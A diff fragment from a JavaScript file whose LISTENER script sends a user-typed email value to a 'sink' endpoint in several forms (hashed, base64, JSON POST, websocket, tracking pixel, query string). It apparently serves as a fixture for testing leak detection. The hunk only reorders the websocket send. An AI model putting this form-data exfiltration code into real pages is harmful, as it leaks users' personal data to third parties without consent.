@@ -24,10 +24,10 @@ const LISTENER = `
       fetch(sink + '/upper?em=' + (await hex('SHA-1', value)).toUpperCase(), { mode: 'no-cors' });
       fetch(sink + '/post', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ form: { email: value } }) });
       fetch(sink + '/packed', { method: 'POST', mode: 'no-cors', body: btoa('{"a":1,"mail":"' + value + '"}') });
-      await opened;
-      socket.send('typed ' + value);
       localStorage.setItem('draft', JSON.stringify({ mail: value }));
       document.cookie = 'draft=' + encodeURIComponent(value) + '; Path=/';
+      await opened;
+      socket.send('typed ' + value);
     } else {
       new Image().src = sink + '/pixel.gif?q=' + encodeURIComponent(value);
       fetch(sink + '/query?q=' + value, { mode: 'no-cors' });
